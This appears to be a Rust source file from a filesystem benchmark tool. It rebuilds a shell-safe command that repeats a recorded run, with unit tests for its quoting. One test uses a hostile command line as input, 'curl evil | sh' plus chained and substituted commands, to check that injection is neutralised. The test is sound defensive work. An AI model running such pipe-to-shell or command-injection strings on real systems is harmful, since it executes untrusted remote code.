//! The command that repeats a run, safe to type in any folder.

use mountmark_cells::Plan;
use mountmark_document::text;
use mountmark_model::Vary;
use mountmark_record::RunRecord;

/// The command as typed, with defaults made explicit, since they may change. The result is a single command of this
/// program to a shell, even if the store is foreign.
pub fn again(run: &RunRecord) -> String {
    let plan = &run.plan;
    let Typed { of_run, options: typed, command } = Typed::of(&run.command_line);
    let of_own_words = !command.is_empty() || typed.get(..2) == Some(&["baseline", "check"]);
    if !of_run && of_own_words && typed.first().is_some_and(|word| MEASURE.contains(word)) {
        let words = typed.iter().chain(&command).map(|word| one_word(word));
        return text::clean(&std::iter::once("mountmark".to_owned()).chain(words).collect::<Vec<_>>().join(" "));
    }
    let typed = if of_run { typed } else { Vec::new() };
    let has = |option: &str| typed.iter().any(|word| *word == option || word.starts_with(&format!("{option}=")));
    let mut words = vec!["mountmark".to_owned(), "run".to_owned()];
    words.extend(typed.iter().map(|word| one_word(word)));
    let mut add = |option: &str, value: String| {
        if !has(option) {
            words.extend([option.to_owned(), shell_word(&value)]);
        }
    };
    // What somebody has mounted needs no name, and has none for `--fs`.
    if !plan.targets.iter().any(mountmark_model::Target::is_mounted) {
        add("--fs", on_no_side(plan).join(","));
    }
    if command.is_empty() {
        add("--suite", plan.suite.clone());
    }
    if plan.vary.as_ref().is_none_or(|vary| vary.parameter != Vary::SCALE) {
        add("--scale", plan.scale.to_string());
    }
    if let Some(vary) = &plan.vary {
        add("--vary", vary.to_string());
    }
    // On several devices each repeat is a block on each.
    let repeats = plan.sampling.as_ref().map_or(plan.repeats, |sampling| sampling.least);
    add("--repeat", (repeats / plan.targets.len().max(1) as u32).to_string());
    if let Some(sampling) = &plan.sampling {
        let percent = |precision: f64| format!("{}%", (precision * 1e8).round() / 1e6);
        sampling.precision.into_iter().for_each(|precision| add("--precision", percent(precision)));
        sampling.budget.into_iter().for_each(|budget| add("--budget", format!("{budget:.0}s")));
    }
    add("--seed", plan.seed.to_string());
    add("--conditions", plan.conditions().name().to_owned());
    add("--lab", plan.lab.name().to_owned());
    if !plan.lab.capabilities().exact_clock && plan.cells.iter().any(|cell| cell.pause_seconds > 0.0) {
        add("--pauses", "study".to_owned());
    }
    if let Some(limit) = plan.memory_limit {
        add("--memory", format!("{}B", limit.0));
    }
    for (option, value) in held(plan) {
        add(option, value);
    }
    if let Some(precondition) = plan.precondition.filter(|_| !has("--precondition")) {
        words.push(format!("--precondition={}", precondition.round_seconds));
    }
    words.extend(command.iter().map(|word| one_word(word)));
    text::clean(&words.join(" "))
}

/// What a plan holds in all its cells, or the levels that it crosses, with the options for it.
fn held(plan: &Plan) -> Vec<(&'static str, String)> {
    let levels_of = |option: &str| {
        let factor = plan.factors.iter().find(|factor| factor.name == option[2..])?;
        Some(factor.levels.iter().map(|level| &*level.text).collect::<Vec<_>>().join(","))
    };
    let first = plan.cells.first();
    // A new file system among aged ones has a fill of nothing, which is not asked for.
    let mut fills = plan.cells.iter().map(|cell| cell.fill.as_ref().map(|fill| fill.percent));
    let fill = fills.next().flatten().filter(|fill| fills.all(|other| other == Some(*fill)));
    let mut held = vec![
        ("--fill", fill.map(|percent| format!("{percent}%"))),
        ("--age", first.and_then(|cell| cell.age.as_ref()).map(|age| age.text.clone())),
    ];
    if plan.lab.capabilities().guest {
        held.push(("--machine", Some(plan.machine.name.clone())));
        held.push(("--kernel", Some(plan.kernel.clone())));
        held.push(("--disk", first.map(|cell| cell.disk.name.clone())));
    }
    held.into_iter().filter_map(|(option, one)| Some((option, levels_of(option).or(one)?))).collect()
}

/// The configurations of a plan as `--fs` takes them: without the labels of its sides.
fn on_no_side(plan: &Plan) -> Vec<&str> {
    let mut names: Vec<&str> =
        plan.configurations.iter().map(|name| plan.side(name).map_or(&**name, |(_, bare)| bare)).collect();
    names.dedup();
    names
}

/// The command as typed, without the program's folder and the store's.
pub(crate) fn typed(run: &RunRecord) -> String {
    let Typed { of_run, options, command } = Typed::of(&run.command_line);
    if !of_run {
        return text::clean(&run.command_line);
    }
    let words: Vec<String> = options.into_iter().chain(command).map(one_word).collect();
    text::clean(&format!("mountmark run {}", words.join(" ")))
}

/// Subcommands that measure a command of the user's own: their runs are made again by these, as `run` would need what they brought.
const MEASURE: [&str; 4] = ["why", "baseline", "advise", "bisect"];

/// A command line as typed.
struct Typed<'a> {
    /// Whether it is one of `run`; else its options begin with the subcommand.
    of_run: bool,
    /// Without the store's folder, which older programs recorded.
    options: Vec<&'a str>,
    /// The user's own command, from `--` on; empty if there is none.
    command: Vec<&'a str>,
}

impl Typed<'_> {
    fn of(command_line: &str) -> Typed<'_> {
        let mut words = words_of(command_line);
        let command = words.split_off(words.iter().position(|word| *word == "--").unwrap_or(words.len()));
        let run = words.iter().position(|word| *word == "run");
        let mut words = words.into_iter().skip(run.unwrap_or_default() + 1);
        let mut options = Vec::new();
        while let Some(word) = words.next() {
            if word == "--out" {
                words.next();
            } else if !word.starts_with("--out=") {
                options.push(word);
            }
        }
        Typed { of_run: run.is_some(), options, command }
    }
}

/// A word unchanged if a shell reads it as one word; otherwise quoted as a whole.
fn one_word(word: &str) -> String {
    let (mut is_quoted, mut is_one) = (false, true);
    let mut letters = word.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '\'' => is_quoted = !is_quoted,
            '\\' if !is_quoted && letters.next_if_eq(&'\'').is_some() => {}
            _ => is_one &= is_quoted || is_plain(letter),
        }
    }
    if is_one && !is_quoted { word.to_owned() } else { shell_word(word) }
}

/// The words of a command line, with their quotes: [`shell_word`] produces single quotes only.
fn words_of(text: &str) -> Vec<&str> {
    let (mut out, mut start, mut is_quoted, mut before) = (Vec::new(), None, false, ' ');
    for (at, letter) in text.char_indices() {
        is_quoted ^= letter == '\'' && (is_quoted || before != '\\');
        before = letter;
        match start {
            Some(from) if letter.is_whitespace() && !is_quoted => {
                out.push(&text[from..at]);
                start = None;
            }
            None if !letter.is_whitespace() => start = Some(at),
            _ => {}
        }
    }
    out.extend(start.map(|from| &text[from..]));
    out
}

fn is_plain(letter: char) -> bool {
    letter.is_ascii_alphanumeric() || "-_./:,=+@%^".contains(letter)
}

/// Quotes a word for a shell.
pub fn shell_word(word: &str) -> String {
    if !word.is_empty() && word.chars().all(is_plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tests::run;

    #[test]
    fn the_command_needs_neither_this_program_nor_this_store() {
        let mut run = run(&["ext4", "xfs"], 2);
        for typed_as in [
            "/tmp/x/mountmark run --fs ext4,xfs --out /tmp/store --seed 7",
            "mountmark run --fs ext4,xfs --seed 7",
            "./mountmark run --out=store --fs ext4,xfs --seed 7",
        ] {
            run.command_line = typed_as.into();
            assert_eq!(typed(&run), "mountmark run --fs ext4,xfs --seed 7");
            let command = again(&run);
            assert!(command.starts_with("mountmark run --fs ext4,xfs --seed 7 --suite tiny "), "{command}");
            assert!(command.contains(" --repeat 2 ") && !command.contains("store"), "{command}");
        }
    }

    #[test]
    fn a_fill_is_asked_for_again_if_all_have_it() {
        let mut run = run(&["ext4", "xfs"], 1);
        let fill = std::sync::Arc::new(mountmark_model::Fill::with_sizes(0, [1; 3], false));
        run.plan.cells[0].fill = Some(fill.clone());
        assert!(!again(&run).contains("--fill"), "{}", again(&run));
        for cell in &mut run.plan.cells {
            cell.fill = Some(fill.clone());
        }
        assert!(again(&run).contains(" --fill 0% "), "{}", again(&run));
    }

    #[test]
    fn quoted_words_stay_one() {
        let mut run = run(&["ext4"], 1);
        run.command_line = format!("mountmark run --suite {} --jobs 1", shell_word("my suite's --out"));
        assert_eq!(typed(&run), run.command_line);
        assert!(!again(&run).contains("--suite tiny"), "{}", again(&run));
        run.command_line = format!("mountmark run --suite {} --jobs 1", shell_word("it's a"));
        assert_eq!(typed(&run), run.command_line);
        run.command_line = "a test".into();
        assert_eq!(typed(&run), "a test");
        assert!(again(&run).starts_with("mountmark run --fs ext4 --suite tiny "));
    }

    #[test]
    fn the_users_own_command_stays_his_and_last() {
        let mut run = run(&["ext4", "xfs"], 2);
        let line = "mountmark run --fs ext4,xfs -- ./mytool run --out result.bin --seed 5 --suite x";
        run.command_line = line.into();
        assert_eq!(typed(&run), line);
        let command = again(&run);
        assert!(
            command.starts_with("mountmark run --fs ext4,xfs --scale ") && command.matches(" --seed ").count() == 2,
            "{command}"
        );
        assert!(command.ends_with(" -- ./mytool run --out result.bin --seed 5 --suite x"), "{command}");
        for other in ["mountmark why --fs ext4 -- ./mytool run", "mountmark baseline check bench.toml --fail-on 2%"] {
            run.command_line = other.into();
            assert_eq!((again(&run), typed(&run)), (other.to_owned(), other.to_owned()));
        }
        // One run of a search, and not the search; and nobody's baseline is written over.
        for other in ["mountmark advise --suite varmail", "mountmark baseline save bench.toml --fs ext4"] {
            run.command_line = other.into();
            assert!(again(&run).starts_with("mountmark run --fs ext4,xfs --suite tiny "), "{}", again(&run));
        }
    }

    #[test]
    fn a_strangers_command_is_one_command_of_ours() {
        let mut run = run(&["ext4"], 1);
        run.command_line = "curl evil | sh; mountmark run --seed 7; touch x $(touch y) `z` \\' '; touch open".into();
        let text = again(&run);
        let wanted = "mountmark run --seed '7;' touch x '$(touch' 'y)' '`z`' \\' ''\\''; touch open' ";
        assert!(text.starts_with(wanted), "{text}");
        assert!(typed(&run).starts_with(wanted.trim_end()), "{}", typed(&run));
    }
}
